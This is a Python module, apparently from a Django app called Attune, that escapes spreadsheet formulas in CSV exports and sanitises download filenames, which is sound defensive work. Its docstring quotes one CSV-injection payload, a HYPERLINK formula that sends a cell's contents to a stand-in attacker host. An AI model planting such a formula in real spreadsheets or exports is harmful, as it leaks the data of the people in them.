"""Every CSV file Attune writes goes through here, so no cell runs as a spreadsheet formula.

A cell that begins with =, +, -, @, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets ("CSV injection"): a child's name typed as
=HYPERLINK("http://evil.example/?"&A1, "Ana") would run when a director opens the export.
Such cells get a leading apostrophe (OWASP's advice), which spreadsheets show as text; the
CSV import removes it again (attune.programs.imports). A plain number such as -3 or +0.5 is
left alone: it cannot be a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell(value: Any) -> str:
    """One cell as text that a spreadsheet shows and never runs."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    text = str(value)
    if text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def write(rows: Iterable[Sequence[Any]]) -> str:
    """Rows (the header first) as CSV text: comma-separated, CRLF line ends, no BOM."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return out.getvalue()


def response(rows: Iterable[Sequence[Any]], filename: str, *, bom: bool = True) -> HttpResponse:
    """A CSV download: UTF-8, with a BOM unless told (Excel needs it to read accents), never
    cached."""
    body = ("\ufeff" if bom else "") + write(rows)
    reply = HttpResponse(body, content_type="text/csv; charset=utf-8")
    safe_name = re.sub(r"[^A-Za-z0-9._-]+", "-", filename).strip("-") or "export.csv"
    reply["Content-Disposition"] = f'attachment; filename="{safe_name}"'
    reply["Cache-Control"] = "no-store, private"
    return reply
